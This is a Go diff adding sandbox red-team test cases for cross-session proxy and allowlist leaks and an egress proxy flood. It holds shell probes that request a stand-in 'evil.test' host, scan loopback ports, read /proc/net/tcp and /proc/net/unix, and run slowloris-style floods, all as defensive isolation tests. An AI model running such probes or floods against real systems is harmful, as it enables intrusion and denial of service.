@@ -462,3 +462,92 @@ func metadataCase() *Case {
 		},
 	}
 }
+
+// netCrossCases are the X and D cases that need the fake internet.
+func netCrossCases() []*Case {
+	return []*Case{{
+		ID: "X07", Class: Cross, Title: "another session's proxy and allowlist", Needs: NeedAPI | NeedNet,
+		Probe:   "session B allows b-only.test; A (the default suite policy) asks its own proxy for b-only.test (GET, CONNECT, SOCKS5), looks for another proxy (ports 3100-3199 on its loopback, /proc/net/tcp and unix), while B is open and after B is closed",
+		Oracle:  "b-only.test's server receives a byte from A",
+		Control: "B reaches b-only.test with the control token",
+		Source:  "X07: sandbox-runtime socks-unauthenticated-probe.test.ts, canonical-host-routing.test.ts",
+		Run: func(ctx context.Context, e *Env) Outcome {
+			attack := viaProxy(get("http://b-only.test/X07-"+e.Tag, "b-only.test"), httpReq("CONNECT", "b-only.test:80", "b-only.test:80")+get("/X07", "b-only.test")) +
+				`"$P" redteam probe socks b-only.test 80; for p in $(seq 3100 3199); do [ $p = 3128 ] || "$P" redteam probe connect tcp 127.0.0.1:$p 2>/dev/null | grep -v '^no'; done; cat /proc/net/tcp /proc/net/unix | head -40`
+			l := e.netL("203.0.113.21:80")
+			m := l.mark()
+			b, wsB, err := e.openControl(ctx, netPolicy([]string{"b-only.test"}))
+			if err != nil {
+				return Outcome{CouldNotRun: err.Error()}
+			}
+			e.ShIn(ctx, b, wsB, viaProxy(get("http://b-only.test/"+e.CT, "b-only.test")), 20*time.Second)
+			a1 := e.Sh(ctx, attack) // concurrent
+			_ = e.CloseSession(b)
+			a2 := e.Sh(ctx, attack) // after B's teardown
+			return verdict(append(oks(a1, contains("send")), oks(a2, contains("send"))...), e.arrived(l, m))
+		},
+	}, {
+		ID: "X22", Class: Cross, Title: "a live allowlist widening (AllowHosts, what a net.connect grant does) reaching another session", Needs: NeedAPI | NeedNet,
+		Probe:   "session B is widened with AllowHosts(evil.test); A asks for evil.test while B is open, after B is closed, and a new session A2 opened after that does too",
+		Oracle:  "evil.test's server receives a byte from A or A2",
+		Control: "B, widened, reaches evil.test with the control token",
+		Source:  "new: grants of net.connect change only the proxy's allowlist (DESIGN.md), per session",
+		Run: func(ctx context.Context, e *Env) Outcome {
+			attack := viaProxy(get("http://evil.test/X22-"+e.Tag, "evil.test")) + `"$P" redteam probe tls connect evil.test:443 evil.test X22`
+			l := e.netL("203.0.113.21:80")
+			m := l.mark()
+			b, wsB, err := e.openControl(ctx, nil)
+			if err != nil {
+				return Outcome{CouldNotRun: err.Error()}
+			}
+			if err := b.AllowHosts("evil.test"); err != nil {
+				return Outcome{CouldNotRun: "AllowHosts: " + err.Error()}
+			}
+			e.ShIn(ctx, b, wsB, viaProxy(get("http://evil.test/"+e.CT, "evil.test")), 20*time.Second)
+			e.Sh(ctx, attack)
+			_ = e.CloseSession(b)
+			e.Sh(ctx, attack)
+			a2, ws2, err := e.OpenSession(ctx, nil)
+			if err != nil {
+				return Outcome{CouldNotRun: err.Error()}
+			}
+			e.ShIn(ctx, a2, ws2, attack, 20*time.Second)
+			return verdict(nil, e.arrived(l, m))
+		},
+	}, {
+		ID: "D11", Class: Denial, Title: "egress proxy flood", Needs: NeedAPI | NeedNet, FreshOnly: true,
+		Probe:   "for 3 s, 64 clients ask the proxy for refused names as fast as it answers, and 64 more hold request heads open (slowloris)",
+		Oracle:  "a second session's allowed request through its own proxy (GET http://allowed.test/) misses the bound, or the harness holds 64 more descriptors 1 s after the flood than before it" + boundsText,
+		Control: "the flood ran: the proxy refused its requests",
+		Source:  "D11: nsjail max_conns_per_ip; NVIDIA/OpenShell#1169",
+		Run: func(ctx context.Context, e *Env) Outcome {
+			fds0 := openFDs()
+			var a Obs
+			resp, busy, err := latencyOf(ctx, e, sampleCall{viaProxy(get("http://allowed.test/D11", "allowed.test")), "200 OK"}, func() {
+				a = e.Sh(ctx, `"$P" redteam probe flood 3s 64`)
+			})
+			if err != nil {
+				return Outcome{CouldNotRun: err.Error()}
+			}
+			if busy != "" {
+				return Outcome{CouldNotRun: busy, Metrics: resp.metrics()}
+			}
+			bad := resp.breaches()
+			time.Sleep(time.Second)
+			fds1 := openFDs()
+			if fds1 > fds0+64 {
+				bad = append(bad, fmt.Sprintf("the harness holds %d descriptors after the flood, %d before", fds1, fds0))
+			}
+			var ctl []string
+			for _, l := range strings.Split(a.Text, "\n") {
+				if f := strings.Fields(l); len(f) >= 5 && f[0] == "flood" && f[4] != "0" {
+					ctl = append(ctl, strings.TrimSpace(l))
+				}
+			}
+			o := verdict(bad, ctl)
+			o.Metrics = resp.metrics()
+			o.Metrics["harness_fds"] = fmt.Sprintf("%d before, %d after", fds0, fds1)
+			return o
+		},
+	}}
+}
